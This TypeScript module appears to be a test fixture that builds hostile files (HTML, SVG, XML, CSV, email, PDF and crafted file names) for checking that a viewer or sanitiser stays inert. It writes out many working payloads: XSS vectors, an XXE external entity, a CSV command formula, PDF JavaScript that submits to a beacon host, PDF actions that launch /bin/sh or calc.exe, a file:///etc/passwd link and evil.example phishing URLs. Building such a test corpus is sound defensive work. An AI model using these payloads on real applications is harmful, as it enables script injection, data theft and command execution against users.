/** Files and texts that would run, load or open something if a browser took them for more than text. */
import { onePage, pdfOf } from "./pdf.ts";

export interface ActiveFile {
  readonly name: string;
  readonly contentType: string;
  readonly content: string | Uint8Array;
}

/** Scripts of the files call this function of the page. */
export const CALLED = "hostileCall";
const RUN = `window.${CALLED}&&${CALLED}(1);window.ran=1;alert(1)`;

/** @param beacon the origin of a server that nothing may ask */
export function activeFiles(beacon: string): readonly ActiveFile[] {
  return [
    ...htmlFiles(beacon),
    ...markupFiles(beacon),
    ...textFiles(beacon),
    ...pdfFiles(beacon),
    ...namedFiles(),
  ];
}

function htmlFiles(beacon: string): readonly ActiveFile[] {
  const parts: Readonly<Record<string, string>> = {
    script: `<script>${RUN}</script>`,
    "script-address": `<script src="${beacon}/a.js"></script>`,
    "image-error": `<img src=x onerror="${RUN}">`,
    "image-address": `<img src="${beacon}/a.png"><picture><source srcset="${beacon}/b.png"></picture>`,
    "svg-load": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    "frame-document": `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>`,
    "frame-address": `<iframe src="javascript:${RUN}"></iframe><iframe src="${beacon}/frame"></iframe>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
    base: `<base href="${beacon}/"><a href="x">here</a>`,
    form: `<form action="${beacon}/form" id=f><input autofocus onfocus="${RUN}"></form><script>f.submit()</script>`,
    object: `<object data="${beacon}/o"></object><embed src="${beacon}/e"><applet code="${beacon}/x"></applet>`,
    styles: `<link rel=stylesheet href="${beacon}/a.css"><style>@import "${beacon}/b.css";body{background:url(${beacon}/c.png)}</style>`,
    "table-styles": `<table style="position:fixed;inset:0;background:url(${beacon}/t.png)"><tr><td style="behavior:url(x)">Cell</td></tr></table>`,
    links: `<a href="javascript:${RUN}">Click</a><a href="data:text/html,<script>${RUN}</script>">Data</a><a href="vbscript:x">Old</a>`,
    details: `<details open ontoggle="${RUN}"><summary>More</summary>Text</details><video autoplay src="${beacon}/v.mp4" onerror="${RUN}"></video>`,
    mutation: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    clobber: `<form id=document><input name=body></form><img name=location><a id=CSS></a>`,
    preload: `<link rel=preload as=script href="${beacon}/p.js"><link rel=prefetch href="${beacon}/q"><link rel="dns-prefetch" href="//evil.example">`,
  };
  return Object.entries(parts).map(([name, part]) => ({
    name: `html-${name}.html`,
    contentType: "text/html",
    content: `<!doctype html><title>Page</title><main><p>The page of the harbour has some words.</p>${part}<p>Last words.</p></main>`,
  }));
}

function markupFiles(beacon: string): readonly ActiveFile[] {
  const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
  return [
    ["svg-load.svg", "image/svg+xml", `<svg ${svg} onload="${RUN}"><text>Plan of the mole</text></svg>`],
    ["svg-script.svg", "image/svg+xml", `<svg ${svg}><script>${RUN}</script><text>Plan</text></svg>`],
    [
      "svg-foreign.svg",
      "image/svg+xml",
      `<svg ${svg}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon}/f"/></foreignObject><use xlink:href="${beacon}/u.svg#a"/><text>Plan</text></svg>`,
    ],
    [
      "xml-entity.xml",
      "application/xml",
      `<?xml version="1.0"?><!DOCTYPE log [<!ENTITY x SYSTEM "${beacon}/entity">]><log><entry>Lamp lit. &x;</entry></log>`,
    ],
    [
      "xml-stylesheet.xml",
      "application/xml",
      `<?xml version="1.0"?><?xml-stylesheet href="${beacon}/s.xsl" type="text/xsl"?><log><entry>Lamp lit.</entry></log>`,
    ],
    [
      "page.xhtml",
      "application/xhtml+xml",
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${RUN}</script><p>Words.</p></body></html>`,
    ],
  ].map(([name = "", contentType = "", content = ""]) => ({ name, contentType, content }));
}

function textFiles(beacon: string): readonly ActiveFile[] {
  return [
    ["closing-script.txt", "text/plain", `He said "</script><script>${RUN}</script>" and left.`],
    ["one-line.txt", "text/plain", `Begin ${"<img src=x onerror=alert(1)> ".repeat(350_000)} end.`],
    ["overrides.txt", "text/plain", "The \u202efdp.tnemeerga\u202c and \u2066hidden\u2069 \u0000 words."],
    [
      "links.md",
      "text/markdown",
      `# Notes\n\n[Click](javascript:${RUN}) ![pixel](${beacon}/pixel.png) <${beacon}/auto>\n\n<script>${RUN}</script>\n`,
    ],
    [
      "formula.csv",
      "text/csv",
      `name,value\n"=HYPERLINK(""${beacon}/h"",""Click"")",1\n"=cmd|' /C calc'!A0",2\n`,
    ],
    ["cells.csv", "text/csv", `name,value\n"<img src=x onerror=${RUN}>","<style>*{display:none}</style>"\n`],
    [
      "mail.eml",
      "message/rfc822",
      `From: a@example.org\r\nSubject: =?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=\r\nContent-Type: text/html\r\n\r\n<p>Dear reader</p><img src="${beacon}/open.gif"><script>${RUN}</script>`,
    ],
    [
      "captions.vtt",
      "text/vtt",
      `WEBVTT\n\nSTYLE\n::cue{background:url(${beacon}/c.png)}\n\n00:01.000 --> 00:02.000\n<v <img src=x onerror=${RUN}>>The lamp <c.x onclick=${RUN}>burns</c>.\n`,
    ],
    ["data.json", "application/json", `{"__proto__":{"ran":1},"constructor":"<script>${RUN}</script>"}`],
    [
      "team.ics",
      "text/calendar",
      `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<b onclick=${RUN}>Meeting</b>\r\nDTSTART:20260301T100000Z\r\nURL:javascript:alert(1)\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
    ],
  ].map(([name = "", contentType = "", content = ""]) => ({ name, contentType, content }));
}

function pdfFiles(beacon: string): readonly ActiveFile[] {
  const script = `(app.alert\\(1\\); this.submitForm\\('${beacon}/js'\\);)`;
  const link = (action: string): string =>
    `<</Type/Annot/Subtype/Link/Rect[50 600 500 750]/Border[0 0 1]/A<<${action}>>>>`;
  const words = { dictionary: "", stream: "BT /F 20 Tf 60 700 Td (The plan of the pier has words.) Tj ET" };
  const page = (extra: string, catalog = "", more: readonly string[] = []): Uint8Array =>
    pdfOf([
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>${extra}>>`,
      words,
      "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
      ...more,
    ]);
  const annotated = (...annotations: readonly string[]): Uint8Array =>
    page(`/Annots[${annotations.join(" ")}]`);
  const files: Readonly<Record<string, Uint8Array>> = {
    "open-script": page("", `/OpenAction<</S/JavaScript/JS ${script}>>`),
    "named-script": page("", `/Names<</JavaScript<</Names[(a) <</S/JavaScript/JS ${script}>>]>>>>`),
    "page-script": page(`/AA<</O<</S/JavaScript/JS ${script}>>/C<</S/JavaScript/JS ${script}>>>>`),
    launch: page("", "/OpenAction<</S/Launch/F(/bin/sh)>>"),
    "open-address": page("", `/OpenAction<</S/URI/URI(${beacon}/open)>>`),
    print: page("", "/OpenAction<</S/Named/N/Print>>"),
    "link-script": annotated(link("/S/URI/URI(javascript:alert\\(1\\))"), link(`/S/JavaScript/JS ${script}`)),
    "link-data": annotated(
      link("/S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)"),
      link("/S/URI/URI(file:///etc/passwd)"),
    ),
    "link-address": annotated(
      link(`/S/URI/URI(${beacon}/clicked)`),
      link("/S/URI/URI(https://bank.example@evil.example/)"),
    ),
    "link-elsewhere": annotated(
      link(`/S/GoToR/F(${beacon}/other.pdf)/D[0 /Fit]`),
      link("/S/Launch/F(calc.exe)"),
    ),
    form: page("/Annots[6 0 R]", `/AcroForm<</Fields[6 0 R]/CO[6 0 R]/NeedAppearances true>>`, [
      `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Ada)/Rect[50 500 300 540]/AA<</K<</S/JavaScript/JS ${script}>>/F<</S/SubmitForm/F(${beacon}/submit)>>>>>>`,
    ]),
    xfa: page("", `/AcroForm<</XFA 6 0 R>>`, []),
    "rich-media": annotated(
      `<</Type/Annot/Subtype/RichMedia/Rect[50 50 90 90]/RichMediaContent<</Assets<</Names[(a) <</F(${beacon}/m.swf)>>]>>>>>>`,
      `<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS ${script}>>>>`,
    ),
    "font-code": pdfOf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
      words,
      `<</Type/Font/Subtype/Type1/BaseFont/Code/FontMatrix[1 2 3 4 5 (0\\); ${RUN.replaceAll("(", "\\(").replaceAll(")", "\\)")}//)]/FontDescriptor<</Type/FontDescriptor/FontName/Code/Flags 4/FontBBox[0 0 1 1]>>>>`,
    ]),
  };
  const embedded = onePage(words, "", [`<</Type/Filespec/F(a.js)/EF<</F 4 0 R>>>>`]);
  return Object.entries({ ...files, embedded }).map(([name, content]) => ({
    name: `pdf-${name}.pdf`,
    contentType: "application/pdf",
    content,
  }));
}

/** Names are shown in titles, lists and downloads. */
function namedFiles(): readonly ActiveFile[] {
  return [
    '"><img src=x onerror=alert(1)>.txt',
    "\u202etxt.exe.pdf.txt",
    "${alert(1)}{{7*7}}.txt",
    "a'onmouseover='alert(1).txt",
  ].map((name) => ({ name, contentType: "text/plain", content: "Ordinary words of the harbour." }));
}
